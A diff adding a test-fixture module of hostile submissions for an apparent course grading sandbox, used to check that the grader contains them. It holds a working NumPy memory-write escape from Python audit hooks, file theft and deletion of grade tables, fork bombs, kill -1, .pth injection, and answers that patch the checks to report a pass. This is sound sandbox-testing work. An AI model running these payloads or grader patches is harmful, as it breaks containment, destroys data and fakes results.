@@ -1,0 +1,279 @@
+"""Submissions that mean harm, by what has to hold. Each sees OUTSIDE, a folder with treasures, and a number SECONDS.
+
+Most do their harm when they are imported and have no denoiser: they deserve nothing, and what counts is what they leave
+behind. Those with a denoiser are changes of a right or of a worthless one.
+"""
+
+# An undone audit hook: the frame of a refusal shows where its function lies, and NumPy writes into any memory.
+BREAK_OUT = """
+import types
+import numpy as np
+
+
+class Memory:
+    def __init__(self, address, words):
+        self.__array_interface__ = {"data": (address, False), "shape": (words,), "typestr": "<u8", "version": 3}
+
+
+def words(address, number=8):
+    return np.asarray(Memory(int(address) & ~3, number))
+
+
+def nothing(*arguments):
+    pass
+
+
+def undo():
+    try:
+        os.listdir("/")
+    except PermissionError as refusal:
+        last = refusal.__traceback__
+    while last.tb_next is not None:
+        last = last.tb_next
+    frame = last.tb_frame
+    inner = words(words(id(frame))[3])
+    for candidate in (inner[0], inner[2]):
+        if words(candidate, 2)[1] == id(types.FunctionType):
+            words(candidate)[6] = id(nothing.__code__)
+            return
+    raise RuntimeError("not this Python")
+
+
+KEPT = nothing.__code__, nothing.__code__
+undo()
+os.listdir("/")
+print("BROKEN OUT")
+"""
+
+START = """
+import os, sys, subprocess, socket, signal, time, threading
+OUTSIDE, SECONDS = {outside!r}, {seconds!r}
+"""
+
+# At the import: refused wherever the grader runs.
+REFUSED = {
+    "reads a file": "print(open(OUTSIDE + '/secret.txt').read())",
+    "reads with os": "print(os.read(os.open(OUTSIDE + '/secret.txt', os.O_RDONLY), 99))",
+    "reads by dots": "print(open(os.getcwd() + '/..' * 30 + OUTSIDE + '/secret.txt').read())",
+    "reads with NumPy": "import numpy; print(bytes(numpy.fromfile(OUTSIDE + '/secret.txt', 'u1')))",
+    "maps a file": "import numpy; print(bytes(numpy.memmap(OUTSIDE + '/secret.txt', mode='r')))",
+    "reads by a link": "os.symlink(OUTSIDE + '/secret.txt', 'mine'); print(open('mine').read())",
+    "reads by a hard link": "os.link(OUTSIDE + '/secret.txt', 'mine'); print(open('mine').read())",
+    "reads by the root of a process": "print(open('/proc/self/root' + OUTSIDE + '/secret.txt').read())",
+    "reads the other submissions": "print(open(OUTSIDE + '/submissions/neighbour/denoiser.py').read())",
+    "reads with pandas": "import pandas; print(pandas.read_csv(OUTSIDE + '/secret.txt'))",
+    "reads with mmread": "import scipy.io; print(scipy.io.mmread(OUTSIDE + '/secret.mtx'))",
+    "reads with linecache": "import linecache; print(linecache.getlines(OUTSIDE + '/secret.txt'))",
+    "reads with sqlite": "import sqlite3; print(sqlite3.connect(OUTSIDE + '/secret.txt').execute('select 1'))",
+    "imports from outside": "sys.path.insert(0, OUTSIDE); import treasure",
+    "lists a folder": "print(os.listdir(OUTSIDE))",
+    "walks": "print(list(os.walk(OUTSIDE)))",
+    "moves there": "os.chdir(OUTSIDE); print(open('secret.txt').read())",
+    "writes a file": "open(OUTSIDE + '/new.txt', 'w').write('x')",
+    "appends to the table": "open(OUTSIDE + '/grades.csv', 'a').write('me,100')",
+    "empties the table": "os.truncate(OUTSIDE + '/grades.csv', 0)",
+    "removes the table": "os.remove(OUTSIDE + '/grades.csv')",
+    "renames the table": "os.rename(OUTSIDE + '/grades.csv', OUTSIDE + '/old.csv')",
+    "makes a folder": "os.makedirs(OUTSIDE + '/new/folder')",
+    "removes a folder": "import shutil; shutil.rmtree(OUTSIDE)",
+    "changes rights": "os.chmod(OUTSIDE + '/grades.csv', 0)",
+    "saves an array": "import numpy; numpy.save(OUTSIDE + '/new.npy', numpy.ones(3))",
+    "saves text": "import numpy; numpy.savetxt(OUTSIDE + '/new.txt', numpy.ones(3))",
+    "writes with mmwrite": "import scipy.io, numpy; scipy.io.mmwrite(OUTSIDE + '/new.mtx', numpy.ones((2, 2)))",
+    "writes with savemat": "import scipy.io; scipy.io.savemat(OUTSIDE + '/new.mat', {'x': 1})",
+    "reports with odr": """
+import numpy, scipy.odr
+data = scipy.odr.Data(numpy.arange(5.0), numpy.arange(5.0))
+scipy.odr.ODR(data, scipy.odr.unilinear, beta0=[1, 1], rptfile=OUTSIDE + '/new.txt', iprint=6663).run()""",
+    "leaves shared memory": """
+import _posixshmem
+os.ftruncate(_posixshmem.shm_open('/hostile_left', os.O_CREAT | os.O_RDWR, 0o600), 10)""",
+    "leaves shared memory by the library": """
+from multiprocessing import shared_memory
+shared_memory.SharedMemory('hostile_left', create=True, size=9)
+os._exit(0)""",
+    "leaves a semaphore": """
+import _multiprocessing
+_multiprocessing.SemLock(1, 1, 1, '/hostile_left', False)""",
+    "leaves a named pipe": "os.mkfifo(OUTSIDE + '/pipe')",
+    "leaves a process": "subprocess.Popen(['sleep', str(SECONDS)], start_new_session=True)",
+    "leaves a process by the shell": "os.system(f'setsid sleep {SECONDS} &')",
+    "leaves a fork": "os.fork() or (os.setsid(), time.sleep(SECONDS))",
+    "leaves a fork of a terminal": "import pty; pty.fork()[0] or time.sleep(SECONDS)",
+    "leaves a spawn": "os.posix_spawn('/bin/sleep', ['sleep', str(SECONDS)], {})",
+    "becomes another program": "os.execv('/bin/sleep', ['sleep', str(SECONDS)])",
+    "forks without end": "while True:\n    os.fork()",
+    "starts other processes": "import multiprocessing as m; m.Process(target=time.sleep, args=(SECONDS,)).start()",
+    "uses the C library": "import ctypes; ctypes.CDLL(None).system(f'sleep {SECONDS} &'.encode())",
+    "kills the judge": "os.kill(os.getppid(), signal.SIGKILL)",
+    "kills the group": "os.killpg(0, signal.SIGKILL)",
+    "kills all": "os.kill(-1, signal.SIGKILL)",
+    "stops the judge": "os.kill(os.getppid(), signal.SIGSTOP)",
+    "kills by a descriptor": "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)",
+    "renices the judge": "os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)",
+    "renices the user": "os.setpriority(os.PRIO_USER, os.getuid(), 19)",
+    "binds the judge to a core": "os.sched_setaffinity(os.getppid(), {0})",
+    "idles the judge": "os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))",
+    "limits the judge": "import resource; resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))",
+    "lifts its limits": "import resource; resource.setrlimit(resource.RLIMIT_AS, (-1, -1)); print('SECRET')",
+    "opens a connection": "socket.create_connection(('127.0.0.1', 22)); print('SECRET')",
+    "listens": "socket.create_server(('127.0.0.1', 0)); print('SECRET')",
+    "asks for an address": "print('SECRET', socket.getaddrinfo('localhost', 80))",
+    "reads the environment of the judge": "print('SECRET', open(f'/proc/{os.getppid()}/environ').read())",
+    "reads the memory of the judge": "print('SECRET', open(f'/proc/{os.getppid()}/mem', 'rb').read(1))",
+    "collects what is alive": "import gc; print('SECRET', gc.get_objects())",
+    "traces": "sys.settrace(print); print('SECRET')",
+    "imports the grader": "import amptutorial_course.grading.judge; print('SECRET')",
+    "imports the assignments": "import amptutorial_course.assignments; print('SECRET')",
+    "writes 200 files": "[open(f'{k}.txt', 'w').write('x') for k in range(200)]; print('SECRET')",
+}
+
+# At the import, by native code or after the hook has been undone: only a machine of its own holds them.
+NATIVE = {
+    "HiGHS overwrites the table": """
+from scipy.optimize._highspy import _core
+_core._Highs().writeOptions(OUTSIDE + '/grades.csv')""",
+    "HiGHS writes a model": """
+from scipy.optimize._highspy import _core
+_core._Highs().writeModel(OUTSIDE + '/new.lp')""",
+    "HiGHS writes a start of Python": """
+from scipy.optimize._highspy import _core
+solver = _core._Highs()
+solver.setOptionValue('log_file', OUTSIDE + '/new.pth')
+solver.writeOptions(OUTSIDE + '/new.pth')""",
+    **{
+        f"breaks out and {name}": BREAK_OUT + code
+        for name, code in {
+            "reads a file": "print(open(OUTSIDE + '/secret.txt').read())",
+            "reads by the root of a process": "print(open('/proc/1/root' + OUTSIDE + '/secret.txt').read())",
+            "writes a file": "open(OUTSIDE + '/new.txt', 'w').write('x')",
+            "removes everything": "import shutil; shutil.rmtree(OUTSIDE)",
+            "changes the package": "open(os.path.dirname(np.__file__) + '/hostile.pth', 'w').write('import os')",
+            "changes this project": "import amptutorial; open(amptutorial.__file__, 'a').write('# hostile')",
+            "leaves shared memory": "open('/dev/shm/hostile_left', 'w').write('x' * 99)",
+            "leaves a temporary file": "open('/tmp/hostile_left', 'w').write('x' * 99)",
+            "leaves a fork": "os.fork() or time.sleep(SECONDS)",
+            "leaves a process": "subprocess.Popen(['/bin/sleep', str(SECONDS)], start_new_session=True)",
+            "forks without end": "while True:\n    os.fork()",
+            "kills all": "os.kill(-1, signal.SIGKILL)",
+            "becomes another program": "os.execv('/bin/sleep', ['sleep', str(SECONDS)])",
+            "connects": "socket.create_connection(('127.0.0.1', int(open(OUTSIDE + '/port.txt').read())))",
+            "fills the disk": "[open(f'/tmp/{k}', 'wb').write(bytes(2**17)) for k in range(10**5)]",
+            "mounts": "import ctypes; ctypes.CDLL(None).mount(b'none', b'/usr', b'tmpfs', 0, 0) or print('SECRET')",
+        }.items()
+    },
+}
+
+# At the import: what the process does to itself, to its output or to its messages.
+ENDINGS = {
+    "leaves at once": "os._exit(0)",
+    "leaves politely": "sys.exit('100 points')",
+    "aborts": "os.abort()",
+    "signals itself": "signal.raise_signal(signal.SIGKILL)",
+    "ends by a wrong address": "import numpy; exec(CRASH)",
+    "recurses in C": "import pickle; x = []\nfor _ in range(10**6): x = [x]\npickle.dumps(x); repr(x)",
+    "takes all memory": "x = [bytearray(2**26) for _ in range(10**4)]",
+    "takes all threads": "[threading.Thread(target=time.sleep, args=(SECONDS,)).start() for _ in range(10**5)]",
+    "leaves a thread": "threading.Thread(target=time.sleep, args=(SECONDS,)).start()",
+    "leaves at exit": "import atexit; atexit.register(time.sleep, SECONDS)",
+    "closes everything": "os.closerange(0, 99)",
+    "prints without end": "[print('x' * 10**6) for _ in range(300)]",
+    "prints below Python": "[os.write(2, b'x' * 10**5) for _ in range(300)]",
+    "raises markup": "raise ValueError('<script>alert(1)</script>=1+1\\n| a | \\ud800 \\x00 \\x1b[2J')",
+    "raises what cannot be shown": """
+class Silent(Exception):
+    def __str__(self):
+        raise SystemExit(0)
+raise Silent""",
+    "raises a megabyte": "raise ValueError('x' * 10**6)",
+    "raises an odd syntax error": "raise SyntaxError('odd', (1, [], object, b''))",
+    "has an odd prediction": "PREDICTION = 10**100_000",
+    "has a hostile prediction": """
+class Number(float):
+    def __array__(self, *arguments, **named):
+        os._exit(0)
+PREDICTION = Number(0.5)""",
+    "has a hostile class": """
+class Meta(type):
+    def __instancecheck__(cls, other):
+        return True
+    def __getattribute__(cls, name):
+        os._exit(3)
+class RidgeByHand(metaclass=Meta):
+    pass""",
+    **{
+        f"sends {name}": f"[os.write(n, {frame}) for n in range(3, 9) if sockets(n)]"
+        for name, frame in {
+            "noise": "b'noise' * 99",
+            "a claim of 4 GB": "b'\\xff' * 8",
+            "a deep header": "framed(b'[' * 100_000)",
+            "half a frame": "framed(b'{}')[:9]",
+            "one array 250 times": "framed(DEEP, bytes(2 * 10**6))",
+            "a huge empty array": "framed(EMPTY)",
+            "a made-up answer": 'framed(b\'{"prediction": 0.5, "overrides": 7, "object": []}\')',
+            "an error that is none": 'framed(b\'{"error": [[]], "traceback": {}, "line": true}\')',
+            "many answers": "framed(b'{\"prediction\": 0.5}') * 50",
+        }.items()
+    },
+}
+TOOLS = """
+import json, stat, struct
+
+
+def sockets(number):
+    try:
+        return stat.S_ISSOCK(os.fstat(number).st_mode)
+    except OSError:
+        return False
+
+
+def framed(header, body=b""):
+    return struct.pack(">II", len(header), len(body)) + header + body
+
+
+DEEP = json.dumps({"prediction": [{"__array__": ["|u1", [2 * 10**6], "C", True]}] * 250}).encode()
+EMPTY = json.dumps({"prediction": {"__array__": ["|u1", [0, 2**23, 2**23], "C", True]}}).encode()
+CRASH = '''
+class Nowhere:
+    __array_interface__ = {"data": (8, False), "shape": (1,), "typestr": "<u8", "version": 3}
+numpy.asarray(Nowhere())[0]
+'''
+"""
+
+# When asked: (method of a right solution, its new body, the checks that it may not pass).
+ANSWERS = {
+    "a large Jacobian": ("mean_jacobian", "return np.eye(1200)", {"jacobian", "jacobian_symmetric"}),
+    "a large estimate": ("estimate", "return np.zeros((1200, 1200))", {"optimality", "limits", "shapes"}),
+    "an estimate of other rows": ("estimate", "return np.zeros((len(P), 99))", {"optimality", "limits", "shapes"}),
+    "an estimate that is not finite": ("estimate", "return np.full(P.shape, np.nan)", {"optimality", "limits"}),
+    "objects": ("estimate", "return np.array([[self] * P.shape[1]] * len(P))", {"optimality", "limits", "shapes"}),
+    "an array of its own kind": (
+        "estimate",
+        """
+class Equal(np.ndarray):
+    def __eq__(self, other):
+        return True
+    def __array_ufunc__(self, *arguments, **named):
+        return True
+return np.zeros(P.shape).view(Equal)""",
+        {"optimality", "limits"},
+    ),
+    "a denoiser that says it passed": (
+        "estimate",
+        "import amptutorial.checks as c; c.require = c.require_close = lambda *a: None; return 0 * P",
+        {"optimality", "limits"},
+    ),
+    "an exchanged worker": (
+        "estimate",
+        """
+import sys
+frame = sys._getframe()
+while frame is not None:
+    for value in [*frame.f_globals.values(), *frame.f_locals.values()]:
+        if type(value).__name__ == "Worker":
+            type(value).call = lambda *arguments: {"result": True, "changed": {}}
+    frame = frame.f_back
+return 0 * P""",
+        {"optimality", "limits"},
+    ),
+}
